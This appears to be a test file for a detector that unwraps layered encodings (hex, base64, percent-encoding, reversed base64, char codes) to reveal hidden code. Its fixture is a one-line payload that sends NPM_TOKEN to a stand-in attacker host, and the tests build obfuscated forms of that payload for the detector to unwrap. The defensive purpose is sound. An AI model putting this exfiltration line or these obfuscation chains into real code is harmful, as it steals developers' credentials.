// Decoding chains: layers unwrapped until the text reads as code, within a budget of layers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { unfold } from '../../src/analyze/embedded/unfold.js';

const CODE = "require('https').get('https://x.attacker.invalid/?t=' + process.env.NPM_TOKEN);";
const isCode = (t: string): boolean => t.includes('process.env');
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const hex = (s: string): string => Buffer.from(s).toString('hex');

test('hex of base64, base64 of percent-encoding, reversed base64, char codes', () => {
  assert.deepEqual(unfold(hex(b64(CODE)), isCode)?.layers, ['hex', 'base64']);
  assert.deepEqual(unfold(b64(encodeURIComponent(CODE).replace(/[a-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)), isCode)?.layers, ['base64', 'percent-encoding']);
  const padded = b64(CODE + ' ');
  assert.ok(padded.endsWith('='));
  assert.deepEqual(unfold([...padded].reverse().join(''), isCode)?.layers, ['reversed base64']);
  assert.deepEqual(unfold(b64([...CODE].map((c) => c.charCodeAt(0)).join(',')), isCode)?.layers, ['base64', 'char codes']);
  assert.equal(unfold(hex(b64(CODE)), isCode)?.text, CODE);
});

test('plain text, binary data and chains deeper than the budget are not unfolded', () => {
  assert.equal(unfold(CODE, isCode), null);
  assert.equal(unfold(Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 256)).toString('base64'), isCode), null);
  let deep = CODE;
  for (let k = 0; k < 5; k++) deep = b64(deep);
  assert.equal(unfold(deep, isCode), null);
});
